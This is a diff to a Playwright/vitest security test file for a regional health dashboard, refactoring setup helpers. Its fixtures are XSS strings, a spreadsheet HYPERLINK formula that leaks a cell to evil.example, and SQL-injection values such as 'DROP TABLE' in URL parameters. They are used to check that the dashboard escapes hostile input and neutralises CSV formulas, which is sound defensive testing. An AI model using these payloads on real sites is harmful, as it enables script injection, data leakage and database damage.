@@ -1,12 +1,10 @@
-import { readFileSync } from 'node:fs';
-import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
-import type { Browser } from 'playwright-core';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { tableToIPC } from 'apache-arrow';
 import { Table as WasmTable, writeParquet } from 'parquet-wasm';
 import { arrowTableFromColumns } from '../data/arrowTable';
 import { CONTRACT } from '../data/contract';
 import { districtFacts, fmt, readDemoTable } from './demoFacts';
-import { launchBrowser, openWatched, waitForData, waitForView, type Watched } from './browser';
+import { chooseFiles, download, withDashboard, waitForView } from './browser';
 
 const IMG = '<img src=x onerror="window.__pwned=1">';
 const SCRIPT = '<script>window.__pwned=2</script>';
@@ -14,27 +12,18 @@ const SVG = '<svg onload="window.__pwned=3"><circle r=9 /></svg>';
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
 
 describe('hostile text in the data is shown as text everywhere and never runs', () => {
-  let browser: Browser;
-  let w: Watched;
+  const w = withDashboard();
   const facts = districtFacts();
   const worst = [...facts].sort((a, b) => a.workforce / a.population - b.workforce / b.population || a.name.localeCompare(b.name));
   // The demo regions with four names replaced by attacks: the worst-served district, two others, and a province.
   const hostileNames: Record<string, string> = { [worst[0].region_id]: IMG, [worst[1].region_id]: SCRIPT, [worst[2].region_id]: FORMULA, P1: SVG };
   beforeAll(async () => {
-    browser = await launchBrowser();
-    w = await openWatched(browser, inject('baseUrl'));
-    await waitForData(w.page);
     const regions = readDemoTable<Record<string, unknown> & { region_id: string; name: string }>('regions');
     const cols = Object.fromEntries(CONTRACT.regions.columns.map((c) => [c.name, regions.map((r) => (c.name === 'name' ? hostileNames[r.region_id] ?? r.name : r[c.name] ?? null))]));
     const bytes = writeParquet(WasmTable.fromIPCStream(tableToIPC(arrowTableFromColumns(CONTRACT.regions, cols), 'stream')));
-    await w.page.getByTestId('dataset-loader').locator('summary').click();
     // The demo's other tables stay (an explicit choice): the hostile names must show in the full dashboard.
-    await w.page.getByTestId('keep-demo').check();
-    await w.page.getByTestId('file-input').setInputFiles([{ name: 'regions.parquet', mimeType: 'application/octet-stream', buffer: Buffer.from(bytes) }]);
+    await chooseFiles(w.page, [{ name: 'regions.parquet', buffer: Buffer.from(bytes) }], 'keep-demo');
     await w.page.waitForFunction((name) => [...document.querySelectorAll('[data-testid="district-table"] td')].some((td) => td.textContent === name), IMG);
-  });
-  afterAll(async () => {
-    await browser?.close();
   });
 
   const noScriptRan = async () => {
@@ -83,10 +72,7 @@ describe('hostile text in the data is shown as text everywhere and never runs', 
 
   it('a CSV export neutralises the formula', async () => {
     await w.page.getByTestId('tab-overview').click();
-    const menu = w.page.getByTestId('export-districts');
-    await menu.locator('summary').click();
-    const [dl] = await Promise.all([w.page.waitForEvent('download'), menu.locator('button[data-format="csv"]').click()]);
-    const csv = readFileSync(await dl.path(), 'utf8');
+    const csv = (await download(w.page.getByTestId('export-districts'), 'button[data-format="csv"]')).bytes.toString('utf8');
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`);
     expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
   });
@@ -98,21 +84,15 @@ describe('hostile text in the data is shown as text everywhere and never runs', 
 });
 
 describe('hostile URL parameters are ignored with a notice, never an error page', () => {
+  const q = new URLSearchParams({
+    view: '<script>alert(1)</script>', province: "P1' OR '1'='1", measure: 'beds; DROP TABLE facilities', district: '"><img src=x>',
+    ftype: "clinic' --", owner: '<b>x</b>', service: "surgery') OR 1=1 --", indicator: "'; DROP TABLE coverage; --", dimension: '<svg onload=1>',
+    year: '2020 OR 1=1', table: 'regions; DROP TABLE regions', sort: '-name; DROP', f_name: "%' OR '1'='1", page: '-5', size: '1e9',
+    active: '20x', partner: "ngo'", programme: '<i>', need: "poverty_rate' --", 'Bad Key': 'x',
+  });
+  const w = withDashboard(`?${q}`, { ready: ['[data-testid="kpi-population"]'] });
+
   it('every parameter at once', async () => {
-    const browser = await launchBrowser();
-    const q = new URLSearchParams({
-      view: '<script>alert(1)</script>', province: "P1' OR '1'='1", measure: 'beds; DROP TABLE facilities', district: '"><img src=x>',
-      ftype: "clinic' --", owner: '<b>x</b>', service: "surgery') OR 1=1 --", indicator: "'; DROP TABLE coverage; --", dimension: '<svg onload=1>',
-      year: '2020 OR 1=1', table: 'regions; DROP TABLE regions', sort: '-name; DROP', f_name: "%' OR '1'='1", page: '-5', size: '1e9',
-      active: '20x', partner: "ngo'", programme: '<i>', need: "poverty_rate' --", 'Bad Key': 'x',
-      // The same values under today's namespaced keys (the old ones above migrate to these when their view is open).
-      'filter.type': "clinic' --", 'filter.owner': '<b>x</b>', 'filter.service': "surgery') OR 1=1 --", 'overview.sort': '-name; DROP',
-      'data.table': 'regions; DROP TABLE regions', 'data.sort': '-name; DROP', 'data.f_name': "%' OR '1'='1", 'data.page': '-5', 'data.size': '1e9',
-      'partnerships.year': '20x', 'partnerships.partner': "ngo'", 'partnerships.programme': '<i>',
-    });
-    const w = await openWatched(browser, `${inject('baseUrl')}?${q}`);
-    await waitForData(w.page);
-    await w.page.waitForSelector('[data-testid="kpi-population"]');
     const notice = await w.page.getByTestId('url-notice').innerText();
     expect(notice).toContain('Unknown view');
     expect(notice).toContain('is not a valid region code');
@@ -126,6 +106,5 @@ describe('hostile URL parameters are ignored with a notice, never an error page'
     expect(await w.page.evaluate(() => document.querySelectorAll('img').length)).toBe(0);
     expect(w.consoleErrors).toEqual([]);
     expect(w.foreignRequests).toEqual([]);
-    await browser.close();
   });
 });
